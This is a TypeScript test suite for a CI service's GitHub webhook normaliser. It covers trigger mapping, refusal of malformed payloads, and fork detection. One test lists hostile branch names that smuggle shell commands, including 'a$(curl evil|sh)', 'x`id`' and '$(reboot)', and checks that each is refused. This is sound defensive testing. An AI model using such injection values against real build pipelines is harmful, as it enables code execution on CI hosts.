import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { fixturePath, readJsonFixture } from '../../../test/support/fixtures.js';
import { asTrigger, assertTrigger, clone, ignoredReason, type Expected, type JsonObject } from '../../../test/support/normalize-kit.js';
import { isPing } from '../trigger-event.js';
import { normalizeGithubDelivery } from './normalize.js';

const load = (file: string) => readJsonFixture<JsonObject>('webhooks', 'github', file);

const HELLO_WORLD = [
  'https://github.com/Codertocat/Hello-World.git',
  'https://github.com/Codertocat/Hello-World',
  'git@github.com:Codertocat/Hello-World.git',
  'git://github.com/Codertocat/Hello-World.git',
];
const DRONE_TEST_GO = [
  'https://github.com/bradrydzewski/drone-test-go.git',
  'https://github.com/bradrydzewski/drone-test-go',
  'git@github.com:bradrydzewski/drone-test-go.git',
  'git://github.com/bradrydzewski/drone-test-go.git',
];

/** Every GitHub webhook fixture, the event GitHub sends it under, and what it must become. */
const FIXTURES: Record<string, { event: string; expect: Expected | { ping: true } }> = {
  'create.octokit.json': { event: 'create', expect: { ignored: /"create" events do not trigger runs/ } },
  'delete.octokit.json': { event: 'delete', expect: { ignored: /"delete" events do not trigger runs/ } },
  'ping.octokit.json': { event: 'ping', expect: { ping: true } },
  'ping.with-organization.octokit.json': { event: 'ping', expect: { ping: true } },
  'pr_closed.go-scm.json': { event: 'pull_request', expect: { ignored: /action "closed" does not trigger/ } },
  'pr_opened.go-scm.json': {
    event: 'pull_request',
    expect: {
      trigger: {
        kind: 'pull_request',
        branch: 'master',
        ref: 'refs/pull/1/head',
        commit: 'd2b75aa7797ec26b088fa2dd527e9d2c052fcedd',
        action: 'opened',
        author: 'bradrydzewski',
        urls: DRONE_TEST_GO,
        title: 'Update .drone.yml',
      },
    },
  },
  'pr_reopened.go-scm.json': {
    event: 'pull_request',
    expect: {
      trigger: {
        kind: 'pull_request',
        branch: 'master',
        ref: 'refs/pull/1/head',
        commit: 'd2b75aa7797ec26b088fa2dd527e9d2c052fcedd',
        action: 'reopened',
        author: 'bradrydzewski',
        urls: DRONE_TEST_GO,
      },
    },
  },
  'pr_sync.go-scm.json': {
    event: 'pull_request',
    expect: {
      trigger: {
        kind: 'pull_request',
        branch: 'master',
        ref: 'refs/pull/1/head',
        commit: '8102e371cd01cf668893cb2d04a04d52331b1dc9',
        action: 'synchronize',
        author: 'bradrydzewski',
        urls: DRONE_TEST_GO,
      },
    },
  },
  'pull_request.closed.octokit.json': { event: 'pull_request', expect: { ignored: /action "closed" does not trigger/ } },
  'pull_request.opened.octokit.json': {
    event: 'pull_request',
    expect: {
      trigger: {
        kind: 'pull_request',
        branch: 'changes',
        ref: 'refs/pull/2/head',
        commit: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
        action: 'opened',
        author: 'Codertocat',
        urls: HELLO_WORLD,
        title: 'Update the README with new information.',
      },
    },
  },
  'pull_request.reopened.octokit.json': {
    event: 'pull_request',
    expect: {
      trigger: {
        kind: 'pull_request',
        branch: 'changes',
        ref: 'refs/pull/2/head',
        commit: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
        action: 'reopened',
        author: 'Codertocat',
        urls: HELLO_WORLD,
      },
    },
  },
  'pull_request.synchronize.octokit.json': {
    event: 'pull_request',
    expect: {
      trigger: {
        kind: 'pull_request',
        branch: 'changes',
        ref: 'refs/pull/2/head',
        commit: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
        action: 'synchronize',
        author: 'Codertocat',
        urls: HELLO_WORLD,
      },
    },
  },
  'push.branch-create.octokit.json': {
    event: 'push',
    expect: {
      trigger: {
        kind: 'push',
        branch: 'master',
        ref: 'refs/heads/master',
        commit: '6113728f27ae82c7b1a177c8d03f9e96e0adf246',
        action: null,
        author: 'Codertocat',
        urls: HELLO_WORLD,
      },
    },
  },
  'push.go-scm.json': {
    event: 'push',
    expect: {
      trigger: {
        kind: 'push',
        branch: 'master',
        ref: 'refs/heads/master',
        commit: '199eddf46df50de8d02e99bf1c5fdb4101338224',
        action: null,
        author: 'Codertocat',
        urls: HELLO_WORLD,
      },
    },
  },
  'push.no-username-committer.octokit.json': {
    event: 'push',
    expect: {
      trigger: {
        kind: 'push',
        branch: 'master',
        ref: 'refs/heads/master',
        commit: '6113728f27ae82c7b1a177c8d03f9e96e0adf246',
        action: null,
        author: 'Codertocat',
        urls: HELLO_WORLD,
      },
    },
  },
  'push.tag-delete.octokit.json': { event: 'push', expect: { ignored: /^tag deleted$/ } },
  'push_branch_create.go-scm.json': {
    event: 'push',
    expect: {
      trigger: {
        kind: 'push',
        branch: 'feature-branch',
        ref: 'refs/heads/feature-branch',
        commit: 'd2b75aa7797ec26b088fa2dd527e9d2c052fcedd',
        action: null,
        author: 'bradrydzewski',
        urls: DRONE_TEST_GO,
      },
    },
  },
  'push_branch_delete.go-scm.json': { event: 'push', expect: { ignored: /^branch deleted$/ } },
  'push_tag.go-scm.json': {
    event: 'push',
    expect: {
      trigger: {
        kind: 'tag',
        branch: 'v0.0.1',
        ref: 'refs/tags/v0.0.1',
        commit: 'd2b75aa7797ec26b088fa2dd527e9d2c052fcedd',
        action: null,
        author: 'bradrydzewski',
        urls: DRONE_TEST_GO,
      },
    },
  },
  'push_tag_delete.go-scm.json': { event: 'push', expect: { ignored: /^tag deleted$/ } },
};

test('the table covers every GitHub webhook fixture', () => {
  const files = readdirSync(fixturePath('webhooks', 'github')).filter((f) => f.endsWith('.json') && !f.startsWith('headers.'));
  assert.deepEqual(Object.keys(FIXTURES).sort(), files.sort());
});

for (const [file, { event, expect }] of Object.entries(FIXTURES)) {
  test(`GitHub ${file} (${event}) normalises as expected`, () => {
    const result = normalizeGithubDelivery(event, load(file));
    if ('ping' in expect) {
      assert.ok(isPing(result), JSON.stringify(result));
    } else if ('ignored' in expect) {
      assert.match(ignoredReason(result, false), expect.ignored);
    } else {
      assertTrigger(asTrigger(result), 'github', event, expect.trigger);
    }
  });
}

test('the signed examples announce the event their body is', () => {
  const examples = readJsonFixture<{ deliveries: Array<{ file: string; headers: Record<string, string> }> }>(
    'webhooks',
    'github',
    'headers.signed-examples.json',
  );
  for (const d of examples.deliveries) assert.equal(d.headers['X-GitHub-Event'], FIXTURES[d.file]?.event, d.file);
});

test('a pull request carries its number and target branch', () => {
  const t = asTrigger(normalizeGithubDelivery('pull_request', load('pull_request.opened.octokit.json')));
  assert.deepEqual(t.pullRequest, { number: 2, targetBranch: 'master' });
});

test('an annotated tag push checks out the tagged commit, not the tag object', () => {
  const body = clone(load('push_tag.go-scm.json'));
  body.after = 'a'.repeat(40); // the tag object
  const t = asTrigger(normalizeGithubDelivery('push', body));
  assert.equal(t.commit, 'd2b75aa7797ec26b088fa2dd527e9d2c052fcedd');
});

test('a push whose after is all zeros is a deletion even without deleted: true', () => {
  const body = clone(load('push.go-scm.json'));
  body.after = '0'.repeat(40);
  delete body.deleted;
  body.head_commit = null;
  assert.equal(ignoredReason(normalizeGithubDelivery('push', body), false), 'branch deleted');
});

test('a push to a ref that is neither a branch nor a tag is ignored', () => {
  const body = clone(load('push.go-scm.json'));
  body.ref = 'refs/notes/commits';
  assert.match(ignoredReason(normalizeGithubDelivery('push', body), false), /neither a branch nor a tag/);
});

test('an event header that disagrees with the body is refused as malformed', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['push', 'pull_request.opened.octokit.json', /"push" but the body is a pull_request delivery/],
    ['push', 'create.octokit.json', /"push" but the body is a create\/delete delivery/],
    ['push', 'ping.octokit.json', /"push" but the body is a ping delivery/],
    ['pull_request', 'push.go-scm.json', /"pull_request" but the body is missing the pull_request object/],
    ['ping', 'push.go-scm.json', /"ping" but the body is not a ping/],
  ];
  for (const [event, file, reason] of cases) {
    assert.match(ignoredReason(normalizeGithubDelivery(event, load(file)), true), reason, `${event} + ${file}`);
  }
});

test('missing or mistyped payload fields are refused with a reason, never thrown', () => {
  const push = load('push.go-scm.json');
  const pr = load('pull_request.opened.octokit.json');
  const cases: Array<[string, unknown, RegExp]> = [
    ['push', null, /not a JSON object/],
    ['push', [], /not a JSON object/],
    ['push', 'text', /not a JSON object/],
    ['push', { ...push, ref: 42 }, /no string "ref"/],
    ['push', { ...push, after: undefined }, /no string "after"/],
    ['push', { ...push, deleted: 'yes' }, /non-boolean "deleted"/],
    ['push', { ...push, head_commit: { id: 'not-a-sha' } }, /no valid commit id/],
    ['push', { ...push, head_commit: null, after: 'ABCDEF'.padEnd(40, '0') }, /no valid commit id/],
    ['push', { ...push, repository: 'x' }, /no repository URL/],
    ['push', { ...push, repository: { clone_url: 7 } }, /no repository URL/],
    ['pull_request', { ...pr, action: 1 }, /no string "action"/],
    ['pull_request', { ...pr, pull_request: { ...(pr.pull_request as JsonObject), head: null } }, /head\.ref/],
    ['pull_request', { ...pr, pull_request: { ...(pr.pull_request as JsonObject), head: { ref: 'x', sha: 'abc' } } }, /head\.sha/],
    ['pull_request', { ...pr, repository: null }, /no repository URL/],
  ];
  for (const [event, body, reason] of cases) {
    assert.match(ignoredReason(normalizeGithubDelivery(event, body), true), reason, JSON.stringify(reason.source));
  }
});

test('a missing event header is malformed; unknown events are ignored', () => {
  assert.match(ignoredReason(normalizeGithubDelivery(undefined, load('push.go-scm.json')), true), /Missing X-GitHub-Event/);
  assert.match(ignoredReason(normalizeGithubDelivery('  ', load('push.go-scm.json')), true), /Missing X-GitHub-Event/);
  assert.match(ignoredReason(normalizeGithubDelivery('issues', { action: 'opened' }), false), /"issues" does not trigger runs/);
});

test('a pull request head ref built to inject shell commands is refused as a branch', () => {
  const hostile = ['zzz";echo${IFS}"hello";#', 'a$(curl evil|sh)', 'x`id`', 'a;b', 'a|b', 'a&&b', '-delete', 'a b', 'a..b'];
  for (const ref of hostile) {
    const body = clone(load('pull_request.opened.octokit.json'));
    const pr = body.pull_request as JsonObject;
    pr.head = { ...(pr.head as JsonObject), ref };
    const reason = ignoredReason(normalizeGithubDelivery('pull_request', body), true);
    assert.match(reason, /Refusing pull request head branch/, ref);
  }
});

test('a pushed branch or tag name that git or a shell would misread is refused', () => {
  const body = clone(load('push.go-scm.json'));
  body.ref = 'refs/heads/$(reboot)';
  assert.match(ignoredReason(normalizeGithubDelivery('push', body), true), /Refusing branch name/);
  body.ref = 'refs/tags/-x';
  assert.match(ignoredReason(normalizeGithubDelivery('push', body), true), /Refusing tag name/);
});

test('ordinary branch names with slashes, dots and dashes are accepted', () => {
  for (const ref of ['feature/JIRA-12_fix.v2', 'release/1.2.3', 'user/#42-hotfix']) {
    const body = clone(load('pull_request.opened.octokit.json'));
    const pr = body.pull_request as JsonObject;
    pr.head = { ...(pr.head as JsonObject), ref };
    assert.equal(asTrigger(normalizeGithubDelivery('pull_request', body)).branch, ref);
  }
});

test('a pull request whose head is in another repository, or in a deleted fork, comes from a fork', () => {
  const same = asTrigger(normalizeGithubDelivery('pull_request', load('pull_request.opened.octokit.json')));
  assert.equal(same.fromFork, false);

  const forked = clone(load('pull_request.opened.octokit.json'));
  const head = (forked.pull_request as JsonObject).head as JsonObject;
  head.repo = { ...(head.repo as JsonObject), id: 999, full_name: 'mallory/Hello-World' };
  assert.equal(asTrigger(normalizeGithubDelivery('pull_request', forked)).fromFork, true);

  const deleted = clone(load('pull_request.opened.octokit.json'));
  ((deleted.pull_request as JsonObject).head as JsonObject).repo = null;
  assert.equal(asTrigger(normalizeGithubDelivery('pull_request', deleted)).fromFork, true);
});

test('without ids the full names decide, and a pull request that shows neither counts as a fork', () => {
  const byName = clone(load('pull_request.opened.octokit.json'));
  const pr = byName.pull_request as JsonObject;
  const strip = (side: string, name: unknown) => {
    const repo = { ...((pr[side] as JsonObject).repo as JsonObject) };
    delete repo.id;
    repo.full_name = name;
    (pr[side] as JsonObject).repo = repo;
  };
  strip('head', 'codertocat/hello-world');
  strip('base', 'Codertocat/Hello-World');
  assert.equal(asTrigger(normalizeGithubDelivery('pull_request', byName)).fromFork, false);
  strip('head', 'mallory/Hello-World');
  assert.equal(asTrigger(normalizeGithubDelivery('pull_request', byName)).fromFork, true);
  strip('head', undefined);
  assert.equal(asTrigger(normalizeGithubDelivery('pull_request', byName)).fromFork, true);
});

test('pushes never come from a fork', () => {
  assert.equal(asTrigger(normalizeGithubDelivery('push', load('push.go-scm.json'))).fromFork, undefined);
});
